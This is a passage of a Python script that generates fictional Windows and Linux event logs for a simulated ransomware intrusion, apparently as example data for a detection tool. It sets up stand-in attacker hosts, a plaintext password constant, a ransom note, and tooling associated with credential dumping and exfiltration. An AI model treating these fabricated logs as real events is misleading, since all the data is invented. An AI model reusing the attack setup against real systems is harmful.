#!/usr/bin/env python3
"""Generate the Vigie example incident (examples/incident/*.jsonl).

Everything here is fictional: the agency, the hosts, the accounts, the
attacker infrastructure (documentation IP ranges 203.0.113.0/24,
198.51.100.0/24 and 192.0.2.0/24) and the "Obsidienne" ransomware.

The script only uses the Python standard library and is deterministic
(fixed seed): running it again rewrites byte-identical files.

    python3 examples/generate_incident.py            # writes examples/incident/
    python3 examples/generate_incident.py --stats    # also prints counts

Events are flat JSON objects, one per line, sorted by time within a file.
Windows events carry the System fields (TimeCreated, Channel, Provider_Name,
EventID, EventRecordID, Computer) and the EventData values at top level.
Linux events carry "timestamp" and "host" plus the syslog / auditd fields.
"""

import base64
import hashlib
import json
import os
import random
import sys
import uuid
from datetime import datetime, timedelta, timezone

SEED = 20260302
rng = random.Random(SEED)

HERE = os.path.dirname(os.path.abspath(__file__))
OUT_DIR = os.path.join(HERE, "incident")

# ---------------------------------------------------------------------------
# Fictional environment
# ---------------------------------------------------------------------------
DOMAIN = "ANDP"
FQDN = "andp.gouv.local"
DOM_SID = "S-1-5-21-3641927340-2849011757-1370596652"

USERS = {
    "c.martin": 1107, "adm-dupont": 1215, "j.bernard": 1112, "s.petit": 1121,
    "m.durand": 1134, "l.moreau": 1140, "a.roux": 1152, "svc-backup": 1301,
}


def sid(user):
    return f"{DOM_SID}-{USERS[user]}"


WS = "WS-COMPTA-07"
WS_FQDN = f"{WS}.{FQDN}"
WS_IP = "10.20.4.57"
FS = "SRV-FICHIERS-01"
FS_FQDN = f"{FS}.{FQDN}"
FS_IP = "10.20.1.15"
DC_FQDN = f"SRV-AD-01.{FQDN}"
DC_IP = "10.20.1.10"
WEB = "srv-web-02"
WEB_IP = "10.20.100.12"
ADMIN_LNX_IP = "10.20.2.14"          # WS-SI-01, Linux administrator's workstation
SUPPORT_WS, SUPPORT_IP = "WS-SUPPORT-02", "10.20.2.31"

C2_DOMAIN = "cdn-update-check.com"
C2_IP = "203.0.113.66"
EXFIL_IP = "203.0.113.77"
LSASS_PID = 748
ADM_PASSWORD = "Printemps2026!"
RANSOM_NOTE = "LISEZ-MOI_RANCON.txt"
RANSOM_TEXT = ("OBSIDIENNE : les serveurs et postes de l'ANDP sont chiffrés et 412 Go de "
               "données ont été copiés. Rançon : 10 000 000 € (dix millions d'euros) en "
               "Monero avant le 11/03/2026, faute de quoi tout sera publié. Lisez "
               + RANSOM_NOTE + ".")

# C:\ paths used over and over
SYS32 = "C:\\Windows\\System32\\"
STAGE = "C:\\ProgramData\\EdgeUpdate\\"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
PS_EXE = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
IMPLANT = STAGE + "edgeupd.exe"
USER_HOME = "C:\\Users\\c.martin\\"

# ---------------------------------------------------------------------------
# Time helpers
# ---------------------------------------------------------------------------


def T(s):
    """'2026-03-02 08:47:19.512' -> aware datetime (UTC)."""
    fmt = "%Y-%m-%d %H:%M:%S.%f" if "." in s else "%Y-%m-%d %H:%M:%S"
    return datetime.strptime(s, fmt).replace(tzinfo=timezone.utc)


def iso(dt):
    return dt.strftime("%Y-%m-%dT%H:%M:%S.") + f"{dt.microsecond // 1000:03d}Z"


def sysmon_time(dt):
    return dt.strftime("%Y-%m-%d %H:%M:%S.") + f"{dt.microsecond // 1000:03d}"


def ms(n):
    return timedelta(milliseconds=n)


def rand_time(day, start_h, end_h):
    """Random time on 2026-03-<day> between start_h and end_h (UTC hours)."""
    base = datetime(2026, 3, day, tzinfo=timezone.utc)
    secs = rng.uniform(start_h * 3600, end_h * 3600)
    return base + timedelta(seconds=round(secs, 3))


def fake_hex(seed, n):
    h = hashlib.sha256(seed.encode()).hexdigest()
    while len(h) < n:
        h += hashlib.sha256(h.encode()).hexdigest()
    return h[:n].upper()


def rand_guid():
    return "{" + str(uuid.UUID(int=rng.getrandbits(128), version=4)).upper() + "}"


def hashes(image):
    key = image.lower()
    return (f"SHA256={fake_hex('sha256' + key, 64)},MD5={fake_hex('md5' + key, 32)},"
            f"IMPHASH={fake_hex('imp' + key, 32)}")


# ---------------------------------------------------------------------------
# Output files
# ---------------------------------------------------------------------------
WIN_HEADER = ("TimeCreated", "Channel", "Provider_Name", "EventID", "EventRecordID", "Computer")


class LogFile:
    def __init__(self, name, first_record=None):
        self.name = name
        self.first_record = first_record
        self.rows = []

    def add(self, ts, event, malicious=False, step=None):
        self.rows.append((ts, len(self.rows), event, malicious, step))

    def finalize(self):
        self.rows.sort(key=lambda r: (r[0], r[1]))
        out = []
        rec = self.first_record
        for ts, _, ev, mal, step in self.rows:
            if rec is not None:
                head = {"TimeCreated": iso(ts), "Channel": ev.pop("Channel"),
                        "Provider_Name": ev.pop("Provider_Name"), "EventID": ev.pop("EventID"),
                        "EventRecordID": rec, "Computer": ev.pop("Computer")}
                head.update(ev)
                ev = head
                rec += 1
            else:
                head = {"timestamp": iso(ts)}
                head.update(ev)
                ev = head
            out.append((ev, mal, step))
        return out


FILES = {}


def logfile(name, first_record=None):
    if name not in FILES:
        FILES[name] = LogFile(name, first_record)
    return FILES[name]


ws_sysmon = logfile("ws-compta-07_sysmon.jsonl", 481203)
ws_sec = logfile("ws-compta-07_security.jsonl", 1893440)
ws_ps = logfile("ws-compta-07_powershell.jsonl", 20877)
fs_sec = logfile("srv-fichiers-01_security.jsonl", 7730512)
fs_sys = logfile("srv-fichiers-01_system.jsonl", 118204)
web_auth = logfile("srv-web-02_auth.jsonl")
web_audit = logfile("srv-web-02_auditd.jsonl")

# ---------------------------------------------------------------------------
# Sysmon (WS-COMPTA-07)
# ---------------------------------------------------------------------------
SYSMON = {"Channel": "Microsoft-Windows-Sysmon/Operational",
          "Provider_Name": "Microsoft-Windows-Sysmon", "Computer": WS_FQDN}

MSWIN = "Microsoft® Windows® Operating System"
MS = "Microsoft Corporation"
WINVER = "10.0.19041.5794 (WinBuild.160101.0800)"
OFFVER = "16.0.18526.20168"
SYSINT = "Sysinternals - www.sysinternals.com"
META = {  # file name -> FileVersion, Description, Product, Company, OriginalFileName
    "winword.exe": (OFFVER, "Microsoft Word", "Microsoft Office", MS, "WinWord.exe"),
    "excel.exe": (OFFVER, "Microsoft Excel", "Microsoft Office", MS, "Excel.exe"),
    "outlook.exe": (OFFVER, "Microsoft Outlook", "Microsoft Outlook", MS, "Outlook.exe"),
    "powershell.exe": (WINVER, "Windows PowerShell", MSWIN, MS, "PowerShell.EXE"),
    "cmd.exe": (WINVER, "Windows Command Processor", MSWIN, MS, "Cmd.Exe"),
    "schtasks.exe": (WINVER, "Task Scheduler Configuration Tool", MSWIN, MS, "schtasks.exe"),
    "whoami.exe": (WINVER, "whoami - displays logged on user information", MSWIN, MS, "whoami.exe"),
    "net.exe": (WINVER, "Net Command", MSWIN, MS, "net.exe"),
    "net1.exe": (WINVER, "Net Command", MSWIN, MS, "net1.exe"),
    "nltest.exe": (WINVER, "Microsoft® Logon Server Test Utility", MSWIN, MS, "nltestrk.exe"),
    "reg.exe": (WINVER, "Registry Console Tool", MSWIN, MS, "reg.exe"),
    "fodhelper.exe": (WINVER, "Features On Demand Helper", MSWIN, MS, "FodHelper.EXE"),
    "rundll32.exe": (WINVER, "Windows host process (Rundll32)", MSWIN, MS, "RUNDLL32.EXE"),
    "vssadmin.exe": (WINVER, "Command Line Interface for Microsoft® Volume Shadow Copy Service ",
                     MSWIN, MS, "VSSADMIN.EXE"),
    "wevtutil.exe": (WINVER, "Eventing Command Line Utility", MSWIN, MS, "wevtutil.exe"),
    "wmic.exe": (WINVER, "WMI Commandline Utility", MSWIN, MS, "wmic.exe"),
    "notepad.exe": (WINVER, "Notepad", MSWIN, MS, "NOTEPAD.EXE"),
    "explorer.exe": (WINVER, "Windows Explorer", MSWIN, MS, "EXPLORER.EXE"),
    "userinit.exe": (WINVER, "Userinit Logon Application", MSWIN, MS, "USERINIT.EXE"),
    "svchost.exe": (WINVER, "Host Process for Windows Services", MSWIN, MS, "svchost.exe"),
    "taskhostw.exe": (WINVER, "Host Process for Windows Tasks", MSWIN, MS, "taskhostw.exe"),
    "backgroundtaskhost.exe": (WINVER, "Background Task Host", MSWIN, MS, "backgroundTaskHost.exe"),
    "searchprotocolhost.exe": (WINVER, "Microsoft Windows Search Protocol Host", MSWIN, MS,
                               "SearchProtocolHost.exe"),
    "runtimebroker.exe": (WINVER, "Runtime Broker", MSWIN, MS, "RuntimeBroker.exe"),
    "conhost.exe": (WINVER, "Console Window Host", MSWIN, MS, "CONHOST.EXE"),
    "gpupdate.exe": (WINVER, "Microsoft® Windows Group Policy Update Utility", MSWIN, MS,
                     "GPUpdate.exe"),
    "splwow64.exe": (WINVER, "Print driver host for applications", MSWIN, MS, "splwow64.exe"),
    "mpcmdrun.exe": ("4.18.25010.11", "Microsoft Malware Protection Command Line Utility",
                     MSWIN, MS, "MpCmdRun.exe"),
    "chrome.exe": ("133.0.6943.142", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"),
    "onedrive.exe": ("25.020.0202.0002", "Microsoft OneDrive", "Microsoft OneDrive", MS,
                     "OneDrive.exe"),
    "ms-teams.exe": ("25031.805.3440.5290", "Microsoft Teams", "Microsoft Teams", MS,
                     "ms-teams.exe"),
    "acrobat.exe": ("25.1.20428.0", "Adobe Acrobat", "Adobe Acrobat", "Adobe Inc.", "Acrobat.exe"),
    "7zg.exe": ("24.09", "7-Zip GUI", "7-Zip", "Igor Pavlov", "7zg.exe"),
    "7z.exe": ("24.09", "7-Zip Console", "7-Zip", "Igor Pavlov", "7z.exe"),
    "dbgsvc.exe": ("11.0", "Sysinternals process dump utility", "ProcDump", SYSINT, "procdump"),
    "psexec64.exe": ("2.43", "Execute processes remotely", "Sysinternals PsExec", SYSINT,
                     "psexec.c"),
    "rclone.exe": ("1.69.1", "Rsync for cloud storage", "Rclone", "https://rclone.org",
                   "rclone.exe"),
    "maestria.exe": ("13.20.0.4", "Sage 100 Comptabilité", "Sage 100", "Sage", "Maestria.exe"),
}
NO_META = ("-", "-", "-", "-", "-")


class Proc:
    """A process known to the generator (for Sysmon parent/child consistency)."""

    def __init__(self, image, cmd, pid, guid, user, logon_id, integrity, cwd):
        self.image, self.cmd, self.pid, self.guid = image, cmd, pid, guid
        self.user, self.logon_id, self.integrity, self.cwd = user, logon_id, integrity, cwd


_guid_counter = [0x1a00]
USED_PIDS = {4, LSASS_PID}


def new_pid():
    while True:
        p = rng.randrange(1000, 16000) // 4 * 4
        if p not in USED_PIDS:
            USED_PIDS.add(p)
            return p


def sysmon_guid(dt):
    epoch = int(dt.timestamp())
    _guid_counter[0] += 0x100
    return (f"{{a3f1c2d4-{epoch & 0xFFFF:04x}-{(epoch >> 16) & 0xFFFF:04x}-"
            f"{rng.getrandbits(16):04x}-{_guid_counter[0]:012x}}}")


# long-running processes that exist before the logs start
CM = f"{DOMAIN}\\c.martin"
SYSTEM_USER = "NT AUTHORITY\\SYSTEM"
CM_LOGON = "0x3e5a1f"          # c.martin, filtered (medium) token
CM_LOGON_ELEV = "0x3e5a4c"     # c.martin, elevated (linked) token
CM_LOGON_GUID = "{a3f1c2d4-9c2e-69a5-1f5a-3e0000000000}"

P_SERVICES = Proc(SYS32 + "services.exe", SYS32 + "services.exe", 684, "{a3f1c2d4-3a10-69a4-0b00-000000001a00}",
                  SYSTEM_USER, "0x3e7", "System", SYS32)
P_LSASS = Proc(SYS32 + "lsass.exe", SYS32 + "lsass.exe", LSASS_PID, "{a3f1c2d4-3a10-69a4-0c00-000000001a00}",
               SYSTEM_USER, "0x3e7", "System", SYS32)
P_WINLOGON = Proc(SYS32 + "winlogon.exe", "winlogon.exe", 612, "{a3f1c2d4-3a10-69a4-0a00-000000001a00}",
                  SYSTEM_USER, "0x3e7", "System", SYS32)
P_SVCHOST_SCHED = Proc(SYS32 + "svchost.exe", SYS32 + "svchost.exe -k netsvcs -p -s Schedule", 1496,
                       "{a3f1c2d4-3a11-69a4-1d00-000000001a00}", SYSTEM_USER, "0x3e7", "System", SYS32)
P_SVCHOST_DCOM = Proc(SYS32 + "svchost.exe", SYS32 + "svchost.exe -k DcomLaunch -p", 892,
                      "{a3f1c2d4-3a10-69a4-1100-000000001a00}", SYSTEM_USER, "0x3e7", "System", SYS32)
P_SVCHOST_GP = Proc(SYS32 + "svchost.exe", SYS32 + "svchost.exe -k netsvcs -p -s gpsvc", 1320,
                    "{a3f1c2d4-3a11-69a4-1b00-000000001a00}", SYSTEM_USER, "0x3e7", "System", SYS32)
P_DEFENDER = Proc("C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MsMpEng.exe",
                  "\"C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.25010.11-0\\MsMpEng.exe\"",
                  3880, "{a3f1c2d4-3a13-69a4-2a00-000000001a00}", SYSTEM_USER, "0x3e7", "System", SYS32)
for _p in (P_SERVICES, P_WINLOGON, P_SVCHOST_SCHED, P_SVCHOST_DCOM, P_SVCHOST_GP, P_DEFENDER):
    USED_PIDS.add(_p.pid)


def s_proc(dt, image, cmd, parent, user=CM, logon_id=CM_LOGON, integrity="Medium", cwd=None,
           mal=False, step=None, meta=None):
    """Sysmon EventID 1. Returns the new Proc."""
    name = image.rsplit("\\", 1)[-1].lower()
    fv, desc, prod, comp, ofn = meta or META.get(name, NO_META)
    pid = new_pid()
    guid = sysmon_guid(dt)
    cwd = cwd or (USER_HOME if user == CM and integrity == "Medium" else SYS32)
    ev = dict(SYSMON, EventID=1, RuleName="-", UtcTime=sysmon_time(dt), ProcessGuid=guid,
              ProcessId=pid, Image=image, FileVersion=fv, Description=desc, Product=prod,
              Company=comp, OriginalFileName=ofn, CommandLine=cmd, CurrentDirectory=cwd,
              User=user, LogonGuid=CM_LOGON_GUID if user == CM else "{a3f1c2d4-3a10-69a4-e703-000000000000}",
              LogonId=logon_id, TerminalSessionId=1 if user == CM else 0,
              IntegrityLevel=integrity, Hashes=hashes(image),
              ParentProcessGuid=parent.guid, ParentProcessId=parent.pid, ParentImage=parent.image,
              ParentCommandLine=parent.cmd, ParentUser=parent.user)
    ws_sysmon.add(dt + ms(rng.randint(1, 9)), ev, mal, step)
    return Proc(image, cmd, pid, guid, user, logon_id, integrity, cwd)


def s_net(dt, proc, dst_ip, dst_port, dst_host="", proto="tcp", src_port=None, mal=False, step=None):
    """Sysmon EventID 3 (outbound)."""
    ev = dict(SYSMON, EventID=3, RuleName="-", UtcTime=sysmon_time(dt), ProcessGuid=proc.guid,
              ProcessId=proc.pid, Image=proc.image, User=proc.user, Protocol=proto, Initiated="true",
              SourceIsIpv6="false", SourceIp=WS_IP, SourceHostname=WS_FQDN,
              SourcePort=src_port or rng.randint(49700, 65000), SourcePortName="-",
              DestinationIsIpv6="false", DestinationIp=dst_ip, DestinationHostname=dst_host,
              DestinationPort=dst_port,
              DestinationPortName={80: "http", 443: "https", 445: "microsoft-ds", 135: "epmap",
                                   389: "ldap", 88: "kerberos", 53: "domain"}.get(dst_port, "-"))
    ws_sysmon.add(dt + ms(rng.randint(200, 900)), ev, mal, step)


def s_dns(dt, proc, name, results, mal=False, step=None):
    """Sysmon EventID 22."""
    ev = dict(SYSMON, EventID=22, RuleName="-", UtcTime=sysmon_time(dt), ProcessGuid=proc.guid,
              ProcessId=proc.pid, QueryName=name, QueryStatus="0", QueryResults=results,
              Image=proc.image, User=proc.user)
    ws_sysmon.add(dt + ms(rng.randint(20, 120)), ev, mal, step)


def s_file(dt, proc, path, mal=False, step=None):
    """Sysmon EventID 11."""
    ev = dict(SYSMON, EventID=11, RuleName="-", UtcTime=sysmon_time(dt), ProcessGuid=proc.guid,
              ProcessId=proc.pid, Image=proc.image, TargetFilename=path,
              CreationUtcTime=sysmon_time(dt), User=proc.user)
    ws_sysmon.add(dt + ms(rng.randint(1, 9)), ev, mal, step)


def s_reg(dt, proc, key, details, mal=False, step=None):
    """Sysmon EventID 13."""
    ev = dict(SYSMON, EventID=13, RuleName="-", EventType="SetValue", UtcTime=sysmon_time(dt),
              ProcessGuid=proc.guid, ProcessId=proc.pid, Image=proc.image, TargetObject=key,
              Details=details, User=proc.user)
    ws_sysmon.add(dt + ms(rng.randint(1, 9)), ev, mal, step)


def s_access(dt, src, target, access, calltrace, mal=False, step=None):
    """Sysmon EventID 10."""
    ev = dict(SYSMON, EventID=10, RuleName="-", UtcTime=sysmon_time(dt),
              SourceProcessGUID=src.guid, SourceProcessId=src.pid,
              SourceThreadId=rng.randrange(1000, 20000, 4), SourceImage=src.image,
              TargetProcessGUID=target.guid, TargetProcessId=target.pid, TargetImage=target.image,
              GrantedAccess=access, CallTrace=calltrace, SourceUser=src.user, TargetUser=target.user)
    ws_sysmon.add(dt + ms(rng.randint(1, 9)), ev, mal, step)


# ---------------------------------------------------------------------------
# Windows Security / System helpers
# ---------------------------------------------------------------------------
SEC = {"Channel": "Security", "Provider_Name": "Microsoft-Windows-Security-Auditing"}


def sec_4624(f, computer, dt, user, domain, usid, logon_id, ltype, lproc, pkg, wks, ip, port,
             procname="-", procid="0x0", elevated="%%1842", linked="0x0", subj=None,
             mal=False, step=None):
    s_sid, s_name, s_dom, s_lid = subj or ("S-1-0-0", "-", "-", "0x0")
    ntlm = pkg == "NTLM"
    ev = dict(SEC, EventID=4624, Computer=computer, SubjectUserSid=s_sid, SubjectUserName=s_name,
              SubjectDomainName=s_dom, SubjectLogonId=s_lid, TargetUserSid=usid,
              TargetUserName=user, TargetDomainName=domain, TargetLogonId=logon_id,
              LogonType=ltype, LogonProcessName=lproc, AuthenticationPackageName=pkg,
              WorkstationName=wks,
              LogonGuid="{00000000-0000-0000-0000-000000000000}" if ntlm or ltype == 5 else rand_guid(),
              TransmittedServices="-", LmPackageName="NTLM V2" if ntlm else "-",
              KeyLength=128 if ntlm else 0, ProcessId=procid, ProcessName=procname,
              IpAddress=ip, IpPort=port, ImpersonationLevel="%%1833",
              RestrictedAdminMode="-" if ltype != 10 else "%%1843",
              TargetOutboundUserName="-", TargetOutboundDomainName="-", VirtualAccount="%%1843",
              TargetLinkedLogonId=linked, ElevatedToken=elevated)
    f.add(dt, ev, mal, step)


def sec_4634(f, computer, dt, user, domain, usid, logon_id, ltype, mal=False, step=None):
    f.add(dt, dict(SEC, EventID=4634, Computer=computer, TargetUserSid=usid, TargetUserName=user,
                   TargetDomainName=domain, TargetLogonId=logon_id, LogonType=ltype), mal, step)


def sec_4672(f, computer, dt, user, domain, usid, logon_id, mal=False, step=None):
    privs = ("SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\t"
             "SeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeSystemEnvironmentPrivilege\n\t\t\t"
             "SeLoadDriverPrivilege\n\t\t\tSeImpersonatePrivilege\n\t\t\tSeDelegateSessionUserImpersonatePrivilege")
    f.add(dt, dict(SEC, EventID=4672, Computer=computer, SubjectUserSid=usid, SubjectUserName=user,
                   SubjectDomainName=domain, SubjectLogonId=logon_id, PrivilegeList=privs), mal, step)


def sec_4648(f, computer, dt, s_user, s_sid, s_lid, t_user, t_domain, server, procname, procid,
             ip, port, mal=False, step=None):
    f.add(dt, dict(SEC, EventID=4648, Computer=computer, SubjectUserSid=s_sid, SubjectUserName=s_user,
                   SubjectDomainName=DOMAIN, SubjectLogonId=s_lid,
                   LogonGuid="{00000000-0000-0000-0000-000000000000}", TargetUserName=t_user,
                   TargetDomainName=t_domain, TargetLogonGuid="{00000000-0000-0000-0000-000000000000}",
                   TargetServerName=server, TargetInfo=server, ProcessId=procid,
                   ProcessName=procname, IpAddress=ip, IpPort=port), mal, step)


def fs_4688(dt, image, cmd, parent_image, parent_pid, user="SRV-FICHIERS-01$", usid="S-1-5-18",
            domain=DOMAIN, logon_id="0x3e7", elevation="%%1936", label="S-1-16-16384",
            mal=False, step=None):
    pid = new_pid()
    ev = dict(SEC, EventID=4688, Computer=FS_FQDN, SubjectUserSid=usid, SubjectUserName=user,
              SubjectDomainName=domain, SubjectLogonId=logon_id, NewProcessId=hex(pid),
              NewProcessName=image, TokenElevationType=elevation, ProcessId=hex(parent_pid),
              CommandLine=cmd, TargetUserSid="S-1-0-0", TargetUserName="-", TargetDomainName="-",
              TargetLogonId="0x0", ParentProcessName=parent_image, MandatoryLabel=label)
    fs_sec.add(dt, ev, mal, step)
    return pid


SCM = {"Channel": "System", "Provider_Name": "Service Control Manager", "Computer": FS_FQDN}


def fs_7036(dt, name, state, mal=False, step=None):
    binary = name.encode("utf-16-le").hex().upper()[:32] + "0000"
    fs_sys.add(dt, dict(SCM, EventID=7036, param1=name, param2=state, Binary=binary), mal, step)


# ---------------------------------------------------------------------------
# Linux helpers
# ---------------------------------------------------------------------------
_audit_serial = [88211]


def syslog(dt, program, pid, message, facility="auth", mal=False, step=None, **extra):
    ev = {"host": WEB, "program": program}
    if pid is not None:
        ev["pid"] = pid
    ev["facility"] = facility
    ev["message"] = message
    ev.update(extra)
    web_auth.add(dt, ev, mal, step)


def audit_id(dt):
    _audit_serial[0] += rng.randint(3, 40)
    return f"audit({dt.timestamp():.3f}:{_audit_serial[0]})"


def audit_user(dt, rtype, pid, uid, auid, ses, msg_fields, mal=False, step=None):
    ev = {"host": WEB, "type": rtype, "msg": audit_id(dt), "pid": pid, "uid": uid, "auid": auid,
          "ses": ses}
    ev.update(msg_fields)
    web_audit.add(dt, ev, mal, step)


UNAME = {0: "root", 33: "www-data", 1000: "j.leroy", 1001: "deploy", 4294967295: "unset"}
BINS = {"id": "/usr/bin/id", "uname": "/usr/bin/uname", "ls": "/usr/bin/ls", "curl": "/usr/bin/curl",
        "ln": "/usr/bin/ln", "sudo": "/usr/bin/sudo", "systemctl": "/usr/bin/systemctl",
        "tail": "/usr/bin/tail", "df": "/usr/bin/df", "pg_dump": "/usr/lib/postgresql/15/bin/pg_dump",
        "tar": "/usr/bin/tar", "rsync": "/usr/bin/rsync", "sh": "/usr/bin/dash",
        "apt": "/usr/bin/apt", "php8.2": "/usr/bin/php8.2", "run-parts": "/usr/bin/run-parts",
        "logrotate": "/usr/sbin/logrotate", "journalctl": "/usr/bin/journalctl",
        "find": "/usr/bin/find", "cat": "/usr/bin/cat"}


def audit_exec(dt, argv, uid, auid, ses, tty, ppid, mal=False, step=None):
    """SYSCALL (execve) + EXECVE record pair sharing one audit serial."""
    msg = audit_id(dt)
    exe = BINS.get(argv[0].rsplit("/", 1)[-1], argv[0])
    pid = rng.randint(30000, 60000)
    sc = {"host": WEB, "type": "SYSCALL", "msg": msg, "arch": "c000003e", "syscall": 59,
          "success": "yes", "exit": 0,
          "a0": f"{rng.getrandbits(44):x}", "a1": f"{rng.getrandbits(44):x}",
          "a2": f"{rng.getrandbits(44):x}", "a3": f"{rng.getrandbits(12):x}",
          "items": 2, "ppid": ppid, "pid": pid, "auid": auid, "uid": uid, "gid": uid,
          "euid": uid, "suid": uid, "fsuid": uid, "egid": uid, "sgid": uid, "fsgid": uid,
          "tty": tty, "ses": ses, "comm": argv[0].rsplit("/", 1)[-1][:15], "exe": exe,
          "subj": "unconfined", "key": "exec", "ARCH": "x86_64", "SYSCALL": "execve",
          "AUID": UNAME.get(auid, str(auid)), "UID": UNAME.get(uid, str(uid))}
    ex = {"host": WEB, "type": "EXECVE", "msg": msg, "argc": len(argv)}
    for i, a in enumerate(argv):
        ex[f"a{i}"] = a
    web_audit.add(dt, sc, mal, step)
    web_audit.add(dt + ms(0), ex, mal, step)
    return pid


# ===========================================================================
# 1. BENIGN NOISE
# ===========================================================================

def ws_benign():
    """Normal activity on WS-COMPTA-07 (c.martin, accounting) for 3 days."""
    # ---- Monday logon
    day1_logon = T("2026-03-02 07:52:31.204")
    ws_sec.add(T("2026-03-02 07:52:10.877"), dict(
        SEC, EventID=4625, Computer=WS_FQDN, SubjectUserSid="S-1-5-18", SubjectUserName=WS + "$",
        SubjectDomainName=DOMAIN, SubjectLogonId="0x3e7", TargetUserSid="S-1-0-0",
        TargetUserName="c.martin", TargetDomainName=DOMAIN, Status="0xc000006d",
        FailureReason="%%2313", SubStatus="0xc000006a", LogonType=2, LogonProcessName="User32 ",
        AuthenticationPackageName="Negotiate", WorkstationName=WS, TransmittedServices="-",
        LmPackageName="-", KeyLength=0, ProcessId="0x264", ProcessName=SYS32 + "winlogon.exe",
        IpAddress="127.0.0.1", IpPort=0))
    sec_4648(ws_sec, WS_FQDN, day1_logon - ms(40), WS + "$", "S-1-5-18", "0x3e7", "c.martin",
             DOMAIN, "localhost", SYS32 + "winlogon.exe", "0x264", "127.0.0.1", 0)
    sec_4624(ws_sec, WS_FQDN, day1_logon, "c.martin", DOMAIN, sid("c.martin"), CM_LOGON_ELEV, 2,
             "User32 ", "Negotiate", WS, "127.0.0.1", 0, SYS32 + "winlogon.exe", "0x264",
             "%%1842", CM_LOGON, subj=("S-1-5-18", WS + "$", DOMAIN, "0x3e7"))
    sec_4624(ws_sec, WS_FQDN, day1_logon + ms(2), "c.martin", DOMAIN, sid("c.martin"), CM_LOGON, 2,
             "User32 ", "Negotiate", WS, "127.0.0.1", 0, SYS32 + "winlogon.exe", "0x264",
             "%%1843", CM_LOGON_ELEV, subj=("S-1-5-18", WS + "$", DOMAIN, "0x3e7"))
    sec_4672(ws_sec, WS_FQDN, day1_logon + ms(3), "c.martin", DOMAIN, sid("c.martin"), CM_LOGON_ELEV)

    t = day1_logon + timedelta(seconds=4)
    userinit = s_proc(t, SYS32 + "userinit.exe", SYS32 + "userinit.exe", P_WINLOGON)
    explorer = s_proc(t + ms(900), "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", userinit)
    logon_cmd = s_proc(t + ms(1400), SYS32 + "cmd.exe",
                       f"C:\\Windows\\system32\\cmd.exe /c \"\\\\{FQDN}\\NETLOGON\\connexion.bat\"", userinit)
    s_proc(t + ms(1700), SYS32 + "net.exe",
           f"net  use P: \\\\{FS}\\Partages\\Comptabilite /persistent:no", logon_cmd)
    s_proc(t + ms(1800), SYS32 + "net.exe", f"net  use H: \\\\{FS}\\Perso$\\c.martin /persistent:no", logon_cmd)
    onedrive = s_proc(t + ms(5200), USER_HOME + "AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe",
                      f"\"{USER_HOME}AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background", explorer)
    s_reg(t + ms(5900), onedrive,
          f"HKU\\{sid('c.martin')}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
          f"\"{USER_HOME}AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe\" /background")
    teams = s_proc(t + ms(7300),
                   "C:\\Program Files\\WindowsApps\\MSTeams_25031.805.3440.5290_x64__8wekyb3d8bbwe\\ms-teams.exe",
                   "\"C:\\Program Files\\WindowsApps\\MSTeams_25031.805.3440.5290_x64__8wekyb3d8bbwe\\ms-teams.exe\" msteams:system-initiated",
                   explorer)
    ctx = {"explorer": explorer, "onedrive": onedrive, "teams": teams}

    # group policy writes the agency's official logon banner (benign legal notice)
    s_reg(T("2026-03-02 07:50:12.331"), P_SVCHOST_GP,
          "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\legalnoticecaption",
          "Avertissement - Système d'information de l'ANDP")
    s_reg(T("2026-03-02 07:50:12.334"), P_SVCHOST_GP,
          "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\legalnoticetext",
          "L'accès à ce système est réservé aux personnes autorisées. Toute connexion est journalisée.")

    # Outlook runs all day, opened at logon
    outlook = s_proc(t + timedelta(seconds=41), OFFICE + "OUTLOOK.EXE",
                     f"\"{OFFICE}OUTLOOK.EXE\" ", explorer)
    ctx["outlook"] = outlook
    return ctx


def ws_daily_noise(ctx, day, start_h, end_h, n_rounds):
    """Office work, browsing, updates. Only benign activity."""
    explorer, outlook, teams, onedrive = ctx["explorer"], ctx["outlook"], ctx["teams"], ctx["onedrive"]
    sites = [("outlook.office365.com", "52.97.146.162", outlook), ("teams.microsoft.com", "52.113.194.132", teams),
             ("login.microsoftonline.com", "20.190.159.68", outlook),
             ("www.impots.gouv.fr", "145.242.11.8", None), ("chorus-pro.gouv.fr", "185.24.186.20", None),
             ("www.legifrance.gouv.fr", "185.24.187.136", None), ("www.google.com", "142.250.179.100", None),
             ("intranet.andp.gouv.local", "10.20.1.40", None), ("mega.nz", "31.216.148.10", None),
             ("g.live.com", "13.107.42.13", onedrive), ("my.microsoftpersonalcontent.com", "13.107.42.12", onedrive)]
    chrome = None
    for i in range(n_rounds):
        t = rand_time(day, start_h, end_h)
        kind = i % 11
        if kind == 0:
            chrome = s_proc(t, "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                            "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" ", explorer)
            for j in range(3):
                host, ip, _ = rng.choice([s for s in sites if s[2] is None])
                s_dns(t + timedelta(seconds=2 + j * 31), chrome, host, f"::ffff:{ip};")
                s_net(t + timedelta(seconds=2 + j * 31), chrome, ip, 443, host)
        elif kind == 1:
            # invoice spreadsheet from the share
            xl = s_proc(t, OFFICE + "EXCEL.EXE",
                        f"\"{OFFICE}EXCEL.EXE\" \"P:\\Fournisseurs\\Suivi_factures_2026.xlsx\"", explorer)
            s_file(t + timedelta(seconds=3), xl, "P:\\Fournisseurs\\~$Suivi_factures_2026.xlsx")
        elif kind == 2:
            att = f"{USER_HOME}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7XK2M4P\\"
            fname = rng.choice(["Releve_fournisseurs_fevrier.xlsx", "Bon_de_commande_2026-117.pdf",
                                "Note_de_frais_janvier.xlsx", "Convention_2026_signee.pdf"])
